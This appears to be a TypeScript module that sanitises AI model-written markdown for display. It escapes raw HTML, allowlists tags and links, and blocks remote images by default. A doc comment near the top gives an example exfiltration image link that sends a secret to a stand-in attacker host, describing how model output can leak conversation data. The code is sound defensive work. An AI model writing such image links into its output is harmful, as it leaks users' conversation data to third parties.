import DOMPurify from 'dompurify';
import { Marked } from 'marked';

/** How model output may be rendered. */
export interface MarkdownOptions {
  /**
   * Load `http(s)` images the model writes. Default `false`: an image URL is a way to send
   * conversation data to a third party (`![](https://evil.example/?q=<secret>)`), so remote
   * images show as a placeholder with their alt text. `data:` images are always shown.
   */
  allowRemoteImages?: boolean;
}

// Raw HTML in model output is shown as text, never parsed: the sanitiser below is the
// second line of defence, not the only one.
const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    html: ({ text }) => escapeHtml(text),
  },
});

const ALLOWED_TAGS = [
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'b', 'i', 'del', 's',
  'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'img', 'table', 'thead', 'tbody', 'tr',
  'th', 'td', 'input', 'span', 'sup', 'sub', 'kbd',
];
const ALLOWED_ATTR = ['href', 'title', 'alt', 'src', 'start', 'align', 'type', 'checked', 'disabled', 'class'];
const SAFE_LINK = /^(?:https?:|mailto:)/i;
const DATA_IMAGE = /^data:image\/(?:png|jpe?g|gif|webp|avif);base64,/i;
const REMOTE_IMAGE = /^https?:/i;
const CODE_CLASS = /^language-[\w+#.-]{1,40}$/;

// A private instance: our hooks must not change the page's own DOMPurify.
const purify = DOMPurify(window);
let remoteImages = false;

purify.addHook('afterSanitizeAttributes', (node) => {
  if (!(node instanceof Element)) return;
  const tag = node.localName;
  if (tag === 'a') {
    const href = node.getAttribute('href') ?? '';
    if (!SAFE_LINK.test(href.trim())) node.removeAttribute('href');
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer');
  } else if (tag === 'img') {
    const src = (node.getAttribute('src') ?? '').trim();
    const allowed = DATA_IMAGE.test(src) || (remoteImages && REMOTE_IMAGE.test(src));
    if (!allowed) {
      // Removed here, inside the inert parsing document, so the image never starts loading.
      node.removeAttribute('src');
      node.setAttribute('data-blocked', '');
    }
    node.setAttribute('loading', 'lazy');
    node.setAttribute('referrerpolicy', 'no-referrer');
  } else if (tag === 'input') {
    if (node.getAttribute('type') !== 'checkbox') node.remove();
    else node.setAttribute('disabled', '');
  }
  const className = node.getAttribute('class');
  if (className !== null && !(tag === 'code' && CODE_CLASS.test(className))) node.removeAttribute('class');
});

/**
 * Renders model-written markdown to a sanitised fragment of the current document: no
 * script, no event handlers, no styles, no `javascript:` (or any non-http) links, links
 * open in a new tab with `rel="noopener noreferrer"`, remote images blocked unless
 * allowed, and each code block gets a copy button.
 */
export function renderMarkdown(markdown: string, options: MarkdownOptions = {}): DocumentFragment {
  const html = marked.parse(markdown, { async: false });
  remoteImages = options.allowRemoteImages === true;
  const fragment = purify.sanitize(html, {
    ALLOWED_TAGS,
    ALLOWED_ATTR,
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    RETURN_DOM_FRAGMENT: true,
  });
  decorate(fragment);
  return fragment;
}

/** Post-processing on sanitised nodes: elements we add are ours, not the model's. */
function decorate(fragment: DocumentFragment): void {
  for (const image of fragment.querySelectorAll('img[data-blocked]')) {
    const placeholder = document.createElement('span');
    placeholder.className = 'blocked-image';
    placeholder.setAttribute('part', 'blocked-image');
    const alt = image.getAttribute('alt') ?? '';
    placeholder.textContent = alt ? `Image not loaded: ${alt}` : 'Image not loaded';
    placeholder.title = 'Remote images are blocked: they can leak the conversation to another site';
    image.replaceWith(placeholder);
  }
  for (const pre of fragment.querySelectorAll('pre')) {
    const wrapper = document.createElement('div');
    wrapper.className = 'code-block';
    wrapper.setAttribute('part', 'code-block');
    const language = /language-([\w+#.-]+)/.exec(pre.querySelector('code')?.className ?? '')?.[1];
    const bar = document.createElement('div');
    bar.className = 'code-bar';
    const label = document.createElement('span');
    label.textContent = language ?? 'code';
    const copy = document.createElement('button');
    copy.type = 'button';
    copy.className = 'copy';
    copy.dataset.copy = '';
    copy.setAttribute('part', 'copy-button');
    copy.setAttribute('aria-label', `Copy ${language ?? ''} code`.replace('  ', ' '));
    copy.textContent = 'Copy';
    bar.append(label, copy);
    pre.replaceWith(wrapper);
    wrapper.append(bar, pre);
  }
}

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (char) => `&#${char.charCodeAt(0)};`);
}
